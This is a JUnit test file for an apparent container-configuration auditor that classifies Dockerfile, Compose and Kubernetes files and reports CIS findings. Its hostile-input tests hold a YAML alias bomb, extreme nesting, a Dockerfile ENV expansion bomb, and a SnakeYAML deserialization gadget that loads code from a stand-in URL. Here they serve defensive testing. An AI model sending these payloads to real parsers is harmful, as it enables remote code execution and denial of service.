package dev.bulwark.audit.file;

import dev.bulwark.model.AuditReport;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

class FileAuditorTest {

    private static String oneLine(ThrowingRunnable r) {
        try {
            r.run();
        } catch (AuditException e) {
            assertThat(e.oneLine()).doesNotContain("\n");
            return e.oneLine();
        }
        throw new AssertionError("no AuditException");
    }

    interface ThrowingRunnable {
        void run() throws AuditException;
    }

    @Test
    void kindByName() {
        assertThat(FileAuditor.byName("Dockerfile")).isEqualTo(FileKind.DOCKERFILE);
        assertThat(FileAuditor.byName("build/Dockerfile.prod")).isEqualTo(FileKind.DOCKERFILE);
        assertThat(FileAuditor.byName("api.dockerfile")).isEqualTo(FileKind.DOCKERFILE);
        assertThat(FileAuditor.byName("Containerfile")).isEqualTo(FileKind.DOCKERFILE);
        assertThat(FileAuditor.byName("C:\\src\\Containerfile.arm64")).isEqualTo(FileKind.DOCKERFILE);
        assertThat(FileAuditor.byName("compose.yaml")).isEqualTo(FileKind.COMPOSE);
        assertThat(FileAuditor.byName("compose.override.yml")).isEqualTo(FileKind.COMPOSE);
        assertThat(FileAuditor.byName("docker-compose.yml")).isEqualTo(FileKind.COMPOSE);
        assertThat(FileAuditor.byName("ops/docker-compose.prod.yaml")).isEqualTo(FileKind.COMPOSE);
        assertThat(FileAuditor.byName("docker-compose-dev.yml")).isEqualTo(FileKind.COMPOSE);
        assertThat(FileAuditor.byName("deploy.yaml")).isNull();
        assertThat(FileAuditor.byName("README")).isNull();
    }

    @Test
    void resultsCarryTheLevelOfTheirCisCheck() throws Exception {
        AuditReport compose = FileAuditor.audit("compose.yaml", "services:\n  a:\n    image: x\n    privileged: true\n");
        // a file check shares the level of the host check of its number; Bulwark's own checks have none
        for (var r : compose.results()) {
            int expected = dev.bulwark.audit.host.HostAuditor.catalogue().stream().filter(i -> i.id().equals(r.checkId()))
                    .mapToInt(dev.bulwark.audit.host.CheckInfo::level).findFirst().orElse(0);
            assertThat(r.level()).as(r.checkId()).isEqualTo(expected);
        }
        assertThat(compose.results()).filteredOn(r -> r.checkId().equals("5.4")).extracting(r -> r.level()).containsOnly(1);
        assertThat(compose.results()).filteredOn(r -> r.checkId().equals("5.3")).extracting(r -> r.level()).containsOnly(2);
        assertThat(compose.results()).filteredOn(r -> r.checkId().equals("COMPOSE-IMAGE-DIGEST")).extracting(r -> r.level())
                .containsOnly(0);
    }

    @Test
    void kindByContent() throws Exception {
        AuditReport df = FileAuditor.audit("build.txt", "# comment\nARG V=1\nFROM alpine:${V}\n");
        assertThat(df.results()).extracting(r -> r.checkId()).contains("4.1");
        AuditReport compose = FileAuditor.audit("stack.yml", "services:\n  a:\n    image: x\n");
        assertThat(compose.results()).extracting(r -> r.checkId()).contains("5.4", "COMPOSE-IMAGE-DIGEST");
        AuditReport k8s = FileAuditor.audit("all.yaml", "---\n---\napiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers: [{name: c, image: x}]\n");
        assertThat(k8s.results()).extracting(r -> r.checkId()).contains("K8S-IMAGE-DIGEST");
        AuditReport json = FileAuditor.audit("pod.json", "{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"metadata\":{\"name\":\"p\"},"
                + "\"spec\":{\"containers\":[{\"name\":\"c\",\"image\":\"x\",\"securityContext\":{\"privileged\":true}}]}}");
        assertThat(json.results()).anySatisfy(r -> {
            assertThat(r.checkId()).isEqualTo("5.4");
            assertThat(r.location()).isEqualTo("pod.json:1:122");
        });
    }

    @Test
    void noneOfTheKinds() {
        assertThat(oneLine(() -> FileAuditor.audit("notes.txt", "hello world\n")))
                .isEqualTo("notes.txt: is none of the files Bulwark audits: not a Dockerfile (FROM ...), a Compose file"
                        + " (services:) or a Kubernetes manifest (apiVersion and kind)");
        assertThat(oneLine(() -> FileAuditor.audit("values.yaml", "replicas: 3\nimage: {tag: x}\n"))).contains("is none of");
        assertThat(oneLine(() -> FileAuditor.audit("notes", "a: [\n"))).contains("is none of");
    }

    @Test
    void malformedYamlNamesTheLineAndColumn() {
        assertThat(oneLine(() -> FileAuditor.audit("compose.yaml", "services:\n  web:\n    image: [x\n    ports: 80\n")))
                .startsWith("compose.yaml:4:10: not valid YAML: expected ',' or ']'");
        assertThat(oneLine(() -> FileAuditor.audit("chart.yaml", "apiVersion: v1\nkind: Pod\nmetadata:\n  name: {{ .Values.name }}-web\n")))
                .startsWith("chart.yaml:4:").contains("helm template");
        assertThat(oneLine(() -> FileAuditor.audit("compose.yaml", "services:\n  a:\n    privileged: false\n    privileged: true\n")))
                .isEqualTo("compose.yaml:4:5: duplicate key \"privileged\" (YAML readers disagree on which value wins)");
    }

    @Test
    void hostileYamlIsRefused() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char prev = 'a';
        for (char c = 'b'; c <= 'j'; c++) {
            bomb.append(c).append(": &").append(c).append(" [");
            for (int k = 0; k < 9; k++) bomb.append(k == 0 ? "" : ",").append('*').append(prev);
            bomb.append("]\n");
            prev = c;
        }
        bomb.append("services:\n  x: {image: y}\n");
        assertTimeoutPreemptively(Duration.ofSeconds(5), () ->
                assertThat(oneLine(() -> FileAuditor.audit("compose.yaml", bomb.toString()))).contains("more than 50 YAML aliases"));

        String deep = "a: " + "[".repeat(5000) + "]".repeat(5000) + "\n";
        assertThat(oneLine(() -> FileAuditor.audit("compose.yaml", deep))).contains("nested deeper than");

        String tagged = "services:\n  a:\n    image: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n";
        assertThatThrownBy(() -> FileAuditor.audit("compose.yaml", tagged)).isNotInstanceOf(RuntimeException.class);
    }

    @Test
    void aFewAliasesAreFine() throws Exception {
        AuditReport r = FileAuditor.audit("compose.yaml", """
                x-sec: &sec
                  security_opt: [no-new-privileges:true]
                  cap_drop: [ALL]
                services:
                  a: {<<: *sec, image: x}
                  b: {<<: *sec, image: y}
                """);
        assertThat(r.results()).filteredOn(x -> x.checkId().equals("5.25")).hasSize(2)
                .allSatisfy(x -> assertThat(x.location()).isEqualTo("compose.yaml:2:18"));
    }

    @Test
    void sizeAndEncodingLimits(@TempDir Path dir) throws Exception {
        String big = "FROM alpine\n" + "# padding\n".repeat((int) (FileAuditor.MAX_BYTES / 10) + 1);
        assertThat(oneLine(() -> FileAuditor.audit("Dockerfile", big))).startsWith("Dockerfile: is ").contains("larger than the 8 MiB");
        Path file = dir.resolve("Dockerfile");
        Files.writeString(file, big);
        assertThat(oneLine(() -> FileAuditor.audit(file))).contains("larger than the 8 MiB");

        Files.write(file, new byte[]{'F', 'R', 'O', 'M', ' ', (byte) 0xC3, (byte) 0x28, '\n'});
        assertThat(oneLine(() -> FileAuditor.audit(file))).endsWith("is not UTF-8 text");
        Files.write(file, new byte[]{'F', 0, 'R'});
        assertThat(oneLine(() -> FileAuditor.audit(file))).endsWith("is a binary file, not text");
        assertThat(oneLine(() -> FileAuditor.audit(dir))).endsWith("is a directory, not a file");
        assertThat(oneLine(() -> FileAuditor.audit(dir.resolve("missing")))).endsWith("missing: no such file");

        Files.writeString(file, "\uFEFFFROM alpine\nUSER 1\n");
        assertThat(FileAuditor.audit(file).results()).isNotEmpty();
    }

    @Test
    void expansionBombsStayBounded() {
        StringBuilder sb = new StringBuilder("FROM alpine\nENV A=xxxxxxxxxxxxxxxx\n");
        for (int i = 0; i < 60; i++) sb.append("ENV A=$A$A$A$A\n");
        sb.append("USER $A\nEXPOSE $A\n");
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> FileAuditor.audit("Dockerfile", sb.toString()));
    }

    @Test
    void explicitKindWins() throws Exception {
        AuditReport r = FileAuditor.audit("weird-name", "FROM alpine\n", FileKind.DOCKERFILE);
        assertThat(r.target()).isEqualTo("weird-name");
        assertThat(oneLine(() -> FileAuditor.audit("Dockerfile", "FROM alpine\n", FileKind.COMPOSE)))
                .isEqualTo("Dockerfile:1: has no services: mapping: not a Compose file");
    }
}
